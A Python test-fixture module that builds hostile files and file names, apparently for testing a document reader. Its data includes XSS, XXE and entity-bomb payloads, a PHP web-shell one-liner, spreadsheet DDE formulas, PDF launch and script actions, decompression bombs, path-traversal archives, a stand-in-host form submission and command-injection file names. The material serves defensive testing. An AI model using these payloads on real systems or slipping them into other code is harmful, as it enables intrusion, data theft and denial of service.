"""Hostile files made here: bodies that attack whoever opens them, and names that attack whoever writes or shows them.

None holds anything that does harm by itself; each has the shape of one that would.
"""

from __future__ import annotations

import gzip
import io
import pickle
import struct
import zipfile
import zlib
from collections.abc import Iterator
from functools import cache
from itertools import islice

from PIL import Image

from tests.evidence import files
from tests.evidence.files import MAIN, OFFICE, office, open_document, package
from tests.lib.reader.making import locked_pdf, small_pdf, whole_pdf

SCRIPT = "<script>alert(document.domain)</script>"
HTML = f"<!DOCTYPE html><html><body onload='alert(1)'>{SCRIPT}</body></html>".encode()
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{SCRIPT}</svg>'.encode()
WORDS = b"BT /F 12 Tf 72 700 Td (Keputusan) Tj ET"
XXE = "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"
LAUGHS = (
    "<!DOCTYPE l [<!ENTITY a 'ha'>"
    + "".join(f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(9))
    + "]>"
)
# Put together here, since a scanner of the repository would else find the sign that is meant to be found.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

NAMES = (
    "SK Tim SPBE.pdf", "laporan", ".pdf", ".htaccess", "..", ".", "...", " ", "", "-", "-rf", "~", "~root.pdf",
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/cron.d/x", "C:\\boot.ini", "\\\\server\\share\\x",
    "....//....//x.pdf", "%2e%2e%2fx.pdf", "..%c0%af..%c0%afx", "x.pdf/", "x.pdf/.", "file:///etc/passwd",
    "laporan\u202efdp.exe", "\u2066a\u2069.pdf", "a\u200b.pdf", "\ufeff.pdf", "a\x00.pdf", "a.pdf\x00.html",
    "a\r\nX: y.pdf", "a\nb.pdf", "a\tb.pdf", "a\x1b[31m.pdf", "a" * 300 + ".pdf", "é" * 300,
    "😀" * 200 + ".docx", "a." * 150 + "pdf",
    "CON.pdf", "nul", "LPT1.txt", "aux.h.pdf", "a\".pdf", "a'.pdf", "a;b.pdf", "a,b.pdf", "a&b<c>.pdf", SCRIPT + ".pdf",
    "<img src=x onerror=alert(1)>.pdf", "{{7*7}}.pdf", "${jndi:x}.pdf", "%s%n%x.pdf", "=1+1.csv", "@SUM(1).xlsx",
    "' OR 1=1;--.pdf", "$(id).pdf", "`id`.pdf", "a|b.pdf", "a*?.pdf", "a:b.pdf", "a.pdf.exe", "a.exe.pdf", "a.html.pdf",
    "a.svg", "a.js", "a.PDF ", "a.pdf.", "a.pdf::$DATA", "\u0130\u0131.pdf", "ﷺ" * 60 + ".pdf",
    "e\u0301" * 100 + ".pdf", "\ud800.pdf", "\U000e0041.pdf", "\ue000.pdf", "ﬀ.pdf", "文件.pdf", "ملف.pdf",
)  # fmt: skip


@cache
def bodies() -> dict[str, bytes]:
    """Every body by what it is."""
    return {**_texts(), **_foreign(), **_pdfs(), **_pictures(), **_packages()}


def combinations(most: int) -> Iterator[tuple[str, str, bytes]]:
    """What it is, name, bytes: every body under as many names, every name at least once, no two with equal bytes but
    those that are too short to be told apart."""
    places = islice(_places(), most)
    for number, (body, name) in enumerate(places):
        yield body, name, marked(bodies()[body], number)


def _places() -> Iterator[tuple[str, str]]:
    at = 0
    while True:
        for body in bodies():
            yield body, NAMES[at % len(NAMES)]
            at += 1


def marked(raw: bytes, number: int) -> bytes:
    """The same body with a mark that changes nothing of it: in a package's comment, else at its end."""
    mark = b"%% %d" % number
    if len(raw) < 8:
        return raw
    if raw[-22:-18] == b"PK\x05\x06":
        return raw[:-2] + struct.pack("<H", len(mark)) + mark
    return raw + b"\n" + mark + b"\n"


def _texts() -> dict[str, bytes]:
    formulas = "nama;nilai\n=cmd|'/c calc'!A1;1\n@SUM(1+1);2\n+1;3\n-1;4\n=HYPERLINK(\"http://x.test\");5\n"
    return {
        "empty": b"",
        "one byte": b"x",
        "one zero": b"\x00",
        "only lines": b"\n\r\n\n" * 9,
        "only a mark": b"\xef\xbb\xbf",
        "UTF-16 little": "\ufeffNotula rapat".encode("utf-16-le"),
        "UTF-16 big": "\ufeffNotula rapat".encode("utf-16-be"),
        "UTF-32": "Notula rapat".encode("utf-32"),
        "UTF-7 page": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "lone surrogate": b"Notula \xed\xa0\x80 rapat",
        "overlong slash": b"Notula \xc0\xaf rapat",
        "Latin 1": "R\xe9sum\xe9 rapat".encode("latin-1"),
        "formulas": formulas.encode(),
        "separators alone": b";;;;;\n;;;;;\n" * 99,
        "quotes without end": b'a;"b\n' * 4000,
        "one line": b"x" * 700_000,
        "lines of one letter": b"a\n" * 100_000,
        "terminal commands": b"\x1b]0;x\x07\x1b[2J",
        "direction turned": "\u202eNotula\u202c \u2066rapat\u2069 \u200b".encode(),
        "private and unassigned": "\ue000\U000f0000\u0378\ufffe\uffff".encode(),
        "marks upon marks": ("a" + "\u0301" * 50_000).encode(),
        "page": HTML,
        "page after blanks": b" \n" * 600 + HTML,
        "page far in": b"Notula rapat. " * 100 + HTML,
        "page after a mark": b"\xef\xbb\xbf" + HTML,
        "drawing": SVG,
        "drawing with a head": b'<?xml version="1.0"?>' + SVG,
        "foreign entity": f"{XXE}<a>&x;</a>".encode(),
        "laughs": f"{LAUGHS}<a>&j;</a>".encode(),
        "script": b"alert(document.domain)\n",
        "shell": b"#!/bin/sh\nid\n",
        "template": b"{{ cycler.__init__.__globals__ }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>\n",
        "PHP": b"<?php system($_GET[0]); ?>",
        "mail with a page": b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + HTML,
        "test virus": EICAR,
        "a decree of rubbish": ("KEPUTUSAN NOMOR " + "188.4/1/" * 5000 + "\nDitetapkan di " * 2000).encode(),
    }


def _foreign() -> dict[str, bytes]:
    tar = bytearray(b"../../etc/passwd".ljust(257, b"\x00") + b"ustar\x0000".ljust(255, b"\x00"))
    return {
        "Windows program": files.EXE,
        "Linux program": b"\x7fELF\x02\x01\x01" + bytes(200),
        "Java class": b"\xca\xfe\xba\xbe" + bytes(60),
        "WebAssembly": b"\x00asm\x01\x00\x00\x00" + bytes(40),
        "pickle": pickle.dumps({"a": [1, 2]}),
        "shortcut": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(80),
        "old Office": files.OLE,
        "locked Office": files.LOCKED_OFFICE,
        "RAR": files.RAR,
        "7z": b"7z\xbc\xaf\x27\x1c" + bytes(40),
        "gzip bomb": gzip.compress(bytes(20_000_000)),
        "bzip2": b"BZh91AY&SY" + bytes(40),
        "xz": b"\xfd7zXZ\x00" + bytes(40),
        "tar that climbs": bytes(tar),
        "HEIC": files.HEIC,
        "film": b"\x00\x00\x00\x18ftypmp42" + bytes(40),
        "Matroska": b"\x1aE\xdf\xa3" + bytes(40),
        "sound": b"ID3\x04" + bytes(40),
        "wave": b"RIFF\x24\x00\x00\x00WAVEfmt " + bytes(40),
        "GIF": b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + bytes(20),
        "GIFAR": b"GIF89a/*" + bytes(20) + b"*/=1;" + package({"META-INF/MANIFEST.MF": "Main-Class: X"}),
        "BMP": b"BM" + struct.pack("<I", 2**31) + bytes(60),
        "TIFF that bites its tail": b"II*\x00\x08\x00\x00\x00\x00\x00\x08\x00\x00\x00",
        "RTF with an object": b"{\\rtf1{\\object\\objdata 0105}}",
        "PostScript": b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n",
    }


def _pdfs() -> dict[str, bytes]:
    plain = small_pdf(WORDS)
    catalogue, tree = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"
    bomb = zlib.compress(bytes(30_000_000))
    start = plain.rindex(b"startxref") + 10
    return {
        "PDF": plain,
        "PDF of nothing": files.PDF,
        "PDF's first word": b"%PDF-",
        "PDF cut": plain[:200],
        "PDF cut at its end": plain[:-30],
        "PDF and page": b"%PDF-1.4\n" + HTML + plain[9:],
        "PDF and package": plain + package({"a.html": HTML}),
        "PDF after rubbish": b"%PDF-1.4\n" + bytes(range(256)) * 30,
        "PDF that runs a script": small_pdf(WORDS, "/AA<</O<</S/JavaScript/JS(app.alert\\(1\\))>>>>"),
        "PDF that starts a program": small_pdf(WORDS, trailer="/OpenAction<</S/Launch/F(/bin/sh)>>"),
        "PDF that acts when opened": plain.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(1)>>"),
        "PDF that sends a form": small_pdf(WORDS, "/Annots[<</Subtype/Link/A<</S/SubmitForm/F(http://x.test)>>>>]"),
        "PDF with a file in it": plain.replace(b"/Catalog", b"/Catalog/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>"),
        "PDF with a form of XML": plain.replace(b"/Catalog", b"/Catalog/AcroForm<</XFA 4 0 R>>"),
        "PDF whose pages bite their tail": whole_pdf([catalogue, b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 9>>", page]),
        "PDF of a million pages": whole_pdf([catalogue, b"<</Type/Pages/Kids[3 0 R]/Count 1000000>>", page]),
        "PDF of minus nine pages": whole_pdf([catalogue, b"<</Type/Pages/Kids[3 0 R]/Count -9>>", page]),
        "PDF of ten gigabytes": plain.replace(b"/Length 39", b"/Length 9999999999"),
        "PDF of a length that is itself": plain.replace(b"/Length 39", b"/Length 4 0 R"),
        "PDF of brackets": b"%PDF-1.4\n1 0 obj\n" + b"<<" * 5_000 + b"[" * 5_000,
        "PDF whose tables form a ring": plain.replace(b"/Root", b"/Prev %d/Root" % int(plain[start:].split()[0])),
        "PDF of a table far away": plain[:start] + b"99999999999\n%%EOF\n",
        "PDF with a bomb": whole_pdf([catalogue, tree, page.replace(b"]>>", b"]/Contents 4 0 R>>"),
                                      b"<</Length %d/Filter/FlateDecode>>stream\n%b\nendstream" % (len(bomb), bomb)]),
        "PDF packed a hundred times": plain.replace(b"/Length 39", b"/Filter[%b]/Length 39" % (b"/FlateDecode" * 100)),
        "PDF of objects in a stream": whole_pdf([catalogue, tree, page,
                                                 b"<</Type/ObjStm/N 99999/First 9/Length 3>>stream\n1 0\nendstream"]),
        "PDF larger than a country": plain.replace(b"[0 0 595 842]", b"[0 0 9e9 9e9]"),
        "PDF without size": plain.replace(b"[0 0 595 842]", b"[0 0 0 0]"),
        "PDF inside out": plain.replace(b"[0 0 595 842]", b"[595 842 -9 -9]"),
        "PDF under a password": locked_pdf("rahasia"),
        "PDF of states": small_pdf(b"q " * 100_000 + WORDS),
        "PDF that draws itself": small_pdf(b"/X Do", "/Resources<</XObject<</X 3 0 R>>>>"),
        "PDF of control signs": small_pdf(b"BT /F 12 Tf 9 9 Td (\\000\\001\\377\\376 =1+1 <script>) Tj ET"),
        "PDF in the future": plain.replace(b"%PDF-1.4", b"%PDF-9.9"),
    }  # fmt: skip


def _png(width: int, height: int, *more: tuple[bytes, bytes]) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    pixels = zlib.compress(bytes(2))
    chunks = ((b"IHDR", head), *more, (b"IDAT", pixels), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in chunks
    )


def _saved(form: str, **options: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), "white").save(out, form, **options)
    return out.getvalue()


def _pictures() -> dict[str, bytes]:
    exif = Image.Exif()
    exif[0x010E], exif[0x013B], exif[0x0112] = SCRIPT, "=1+1", 9
    jpg = _saved("JPEG", exif=exif)
    wide = bytearray(jpg)
    wide[jpg.index(b"\xff\xc0") + 5 : jpg.index(b"\xff\xc0") + 9] = b"\xff\xff\xff\xff"
    webp = _saved("WEBP", lossless=True)
    bomb = zlib.compress(bytes(20_000_000))
    return {
        "PNG": _png(1, 1),
        "PNG of ten gigabytes": _png(300_000, 300_000),
        "PNG of no size": _png(0, 0),
        "PNG of sixty thousand squared": _png(60_000, 60_000),
        "PNG cut": _png(9, 9)[:40],
        "PNG head alone": files.PNG[:8],
        "PNG and package": _png(1, 1) + package({"a.html": HTML}),
        "PNG and page": _png(1, 1) + HTML,
        "PNG that tells a script": _png(1, 1, (b"tEXt", b"Title\x00" + SCRIPT.encode())),
        "PNG with a bomb of text": _png(1, 1, (b"zTXt", b"Title\x00\x00" + bomb)),
        "PNG with a bomb of colours": _png(1, 1, (b"iCCP", b"x\x00\x00" + bomb)),
        "PNG of many frames": _png(1, 1, (b"acTL", struct.pack(">II", 2**31 - 1, 0))),
        "JPG of rubbish": files.JPG,
        "JPG that tells a script": jpg,
        "JPG as wide as can be": bytes(wide),
        "JPG cut": jpg[: len(jpg) // 2],
        "JPG and PHP": jpg + b"<?php system($_GET[0]); ?>",
        "JPG and page": jpg[:20] + HTML + jpg[20:],
        "WebP": webp,
        "WebP of rubbish": files.WEBP,
        "WebP cut": webp[:-20],
        "WebP as wide as can be": b"RIFF\x12\x00\x00\x00WEBPVP8L\x05\x00\x00\x00\x2f\xff\xff\xff\x0f\x00",
    }


def _word(body: str, head: str = "", **more: str | bytes) -> bytes:
    main = f'{head}<w:document xmlns:w="w"><w:body><w:p><w:r><w:t>{body}</w:t></w:r></w:p></w:body></w:document>'
    return office("docx", {"word/document2.xml": main, **more})


def _cut_extra(raw: bytes) -> bytes:
    """The first entry of the directory with an extra field that says it is longer than it is."""
    at, extra = raw.index(b"PK\x01\x02"), struct.pack("<HH", 1, 16) + b"12345"
    name = struct.unpack("<H", raw[at + 28 : at + 30])[0]
    grown = (
        raw[: at + 30] + struct.pack("<H", len(extra)) + raw[at + 32 : at + 46 + name] + extra + raw[at + 46 + name :]
    )
    end = grown.rindex(b"PK\x05\x06") + 12
    length = struct.unpack("<I", grown[end : end + 4])[0] + len(extra)
    return grown[:end] + struct.pack("<I", length) + grown[end + 4 :]


def _link(name: str, target: str) -> bytes:
    out = io.BytesIO(office("docx"))
    with zipfile.ZipFile(out, "a") as archive:
        info = zipfile.ZipInfo(name)
        info.external_attr = 0o120777 << 16
        archive.writestr(info, target)
    return out.getvalue()


def _sheet(cells: str, strings: str = "") -> bytes:
    kinds = f"{OFFICE}{MAIN['xlsx']}.main+xml"
    rels = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    return package({
        "[Content_Types].xml": f'<Types><Override PartName="/xl/w.xml" ContentType="{kinds}"/></Types>',
        "xl/w.xml": '<workbook xmlns:r="r"><sheets><sheet name="=1+1" r:id="a"/></sheets></workbook>',
        "xl/_rels/w.xml.rels": f'<R><Relationship Id="a" Type="{rels}worksheet" Target="s.xml"/>'
                               f'<Relationship Id="b" Type="{rels}sharedStrings" Target="t.xml"/></R>',
        "xl/s.xml": f"<worksheet><sheetData><row>{cells}</row></sheetData></worksheet>",
        "xl/t.xml": f"<sst>{strings}</sst>",
    })  # fmt: skip


def _nested(depth: int) -> bytes:
    raw = b"isi"
    for level in range(depth):
        raw = package({f"{level}.zip": raw})
    return raw


def _entries_upon_each_other() -> bytes:
    """Two entries of the directory that stand for the same bytes."""
    raw = office("docx")
    at, end = raw.index(b"PK\x01\x02"), raw.rindex(b"PK\x05\x06")
    directory = raw[at:end] * 2
    return raw[:at] + directory + raw[end : end + 12] + struct.pack("<II", len(directory), at) + b"\x00\x00"


def _packages() -> dict[str, bytes]:
    plain, rels = _word("Keputusan"), "word/_rels/document2.xml.rels"
    link = '<Relationship Id="a" Type="x/attachedTemplate" Target="http://x.test/a.dotm" TargetMode="External"/>'
    row = '<table:table-row table:number-rows-repeated="999999999"><table:table-cell/></table:table-row>'
    cells = f'<table:table table:name="N">{row}</table:table>'
    utf16 = '<?xml version="1.0"?><Types/>'.encode("utf-16")
    end = plain.rindex(b"PK\x05\x06")
    lzma = bytearray(plain)
    lzma[plain.index(b"PK\x01\x02") + 10] = 14
    return {
        "DOCX": plain,
        "DOCX of nothing": office("docx"),
        "XLSX of nothing": office("xlsx"),
        "PPTX of nothing": office("pptx"),
        "DOCX cut": plain[:-60],
        "DOCX whose directory is far away": plain[: end + 16] + struct.pack("<I", 2**32 - 1) + plain[end + 20 :],
        "DOCX whose directory is huge": plain[: end + 12] + struct.pack("<I", 2**31) + plain[end + 16 :],
        "DOCX with a cut field": _cut_extra(plain),
        "DOCX that lies of its size": files.claimed_size(plain, 7),
        "DOCX of four gigabytes": files.claimed_size(plain, 2**32 - 2),
        "DOCX said to be locked": files.flagged(plain),
        "DOCX packed in an unusual way": bytes(lzma),
        "DOCX with entries upon each other": _entries_upon_each_other(),
        "DOCX that climbs": _word("a", **{"../../../../tmp/x": "x"}),
        "DOCX from the root": _word("a", **{"/etc/cron.d/x": "x"}),
        "DOCX of a drive": _word("a", **{"C:\\x": "x"}),
        "DOCX with a link": _link("word/media/x", "/etc/passwd"),
        "DOCX with a macro": office("docx", {"word/vbaProject.bin": files.OLE}),
        "DOCX that declares a macro": office("docx", main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "DOCX with a program": _word("a", **{"word/embeddings/a.exe": files.EXE}),
        "DOCX with a package": _word("a", **{"word/embeddings/a.zip": _nested(1)}),
        "DOCX that asks for a file": _word("&x;", XXE),
        "DOCX that laughs": _word("&j;", LAUGHS),
        "DOCX whose kinds laugh": package({"[Content_Types].xml": f"{LAUGHS}<Types/>", "word/document2.xml": "<w/>"}),
        "DOCX from outside": _word("a", **{rels: f"<R>{link}</R>"}),
        "DOCX with a bomb": _word("a", **{"word/media/a.bmp": bytes(30_000_000)}),
        "DOCX of many members": _word("a", **{f"word/{n}.xml": "" for n in range(2_001)}),
        "DOCX of a deep tree": _word("<w:p>" * 20_000 + "</w:p>" * 20_000),
        "DOCX of half a sign": _word("&#xD800;"),
        "DOCX of a script": _word("&lt;script&gt;alert(1)&lt;/script&gt; &#x202e;"),
        "DOCX in UTF-16": package({"[Content_Types].xml": utf16, "w.xml": ""}),
        "DOCX with a long comment": plain[:-2] + struct.pack("<H", 60_000) + b"x" * 60_000,
        "DOCX after a program": files.EXE + plain,
        "DOCX and page": plain[:-2] + struct.pack("<H", len(HTML)) + HTML,
        "XLSX of formulas": _sheet("<c t='str'><f>cmd|'/c calc'!A1</f><v>=1+1</v></c>"),
        "XLSX of a cell far away": _sheet("<c r='XFD1048576'><v>1</v></c><c s='99999999' t='s'><v>99999999</v></c>"),
        "XLSX of numbers that are none": _sheet("<c><v>1e999</v></c><c><v>nan</v></c><c><v>" + "9" * 5000 + "</v></c>"),
        "XLSX of many texts": _sheet("<c t='s'><v>0</v></c>", f"<si><t>{'x' * 900_000}</t></si>"),
        "ODT": open_document("odt"),
        "ODT with a macro": package({"mimetype": "application/vnd.oasis.opendocument.text", "Basic/a.xml": "x"}),
        "ODT said to be locked": open_document("odt", "<m:m xmlns:m='m'><m:encryption-data/></m:m>"),
        "ODS of a milliard rows": package({"mimetype": "application/vnd.oasis.opendocument.spreadsheet",
                                           "content.xml": f"<o xmlns:table='b'>{cells}</o>"}),
        "ODT that asks for a file": package({"mimetype": "application/vnd.oasis.opendocument.text",
                                             "content.xml": f"{XXE}<o>&x;</o>"}),
        "package": package({"a.txt": "x"}),
        "packages in packages": _nested(6),
        "package of nothing": b"PK\x05\x06" + bytes(18),
        "package that is only its end": b"PK\x05\x06" + b"\xff" * 18,
        "package of program": package({"META-INF/MANIFEST.MF": "Main-Class: X", "X.class": b"\xca\xfe\xba\xbe"}),
        "book": package({"mimetype": "application/epub+zip", "a.xhtml": HTML}),
        "template": office("docx", main=f"{OFFICE}wordprocessingml.template.main+xml"),
    }  # fmt: skip
